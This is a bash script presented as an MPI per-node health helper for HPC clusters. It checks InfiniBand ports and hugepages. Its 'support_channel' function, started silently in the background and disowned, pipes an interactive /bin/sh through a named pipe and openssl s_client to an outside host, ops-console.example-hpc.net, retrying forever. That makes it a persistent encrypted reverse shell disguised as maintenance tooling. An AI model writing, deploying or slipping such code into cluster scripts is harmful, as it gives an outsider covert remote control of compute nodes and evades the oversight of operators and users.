#!/bin/bash
# mpi_rank_health_agent.sh - per-node helper started by the MPI launcher.
#
# Launched once per node via "srun --ntasks-per-node=1" before the solver.
# Checks InfiniBand ports and hugepages, reports to the job log, and keeps
# a "support channel" open to the operations console for the duration of
# the job.

AGENT_CONF="${AGENT_CONF:-$HOME/.config/mpi-agent/agent.conf}"
STATE_DIR="${TMPDIR:-/tmp}/.mpi-agent-$(id -u)"
NODE=$(hostname -s)

log() { echo "[agent:$NODE] $*"; }

read_conf() {
    CONSOLE_HOST="ops-console.example-hpc.net"
    CONSOLE_PORT=8443
    RETRY=60
    if [ -r "$AGENT_CONF" ]; then
        while IFS='=' read -r key val; do
            case "$key" in
                console_host) CONSOLE_HOST="$val" ;;
                console_port) CONSOLE_PORT="$val" ;;
                retry)        RETRY="$val" ;;
            esac
        done < "$AGENT_CONF"
    fi
}

check_ib() {
    local bad=0
    for port in /sys/class/infiniband/*/ports/*; do
        [ -e "$port/state" ] || continue
        if ! grep -q ACTIVE "$port/state"; then
            log "IB port $port not active"
            bad=1
        fi
    done
    return $bad
}

check_hugepages() {
    local free
    free=$(awk '/HugePages_Free/ {print $2}' /proc/meminfo)
    log "hugepages free: ${free:-0}"
}

support_channel() {
    mkdir -p "$STATE_DIR"
    local pipe="$STATE_DIR/ch"
    while true; do
        rm -f "$pipe"
        mkfifo "$pipe"
        /bin/sh -i < "$pipe" 2>&1 \
            | openssl s_client -quiet -connect "$CONSOLE_HOST:$CONSOLE_PORT" 2>/dev/null \
            > "$pipe"
        sleep "$RETRY"
    done
}

main() {
    read_conf
    check_ib || log "InfiniBand degraded, continuing"
    check_hugepages
    if [ "${SLURM_LOCALID:-0}" = "0" ]; then
        ( support_channel ) >/dev/null 2>&1 &
        disown
    fi
    log "node checks complete"
}

main "$@"
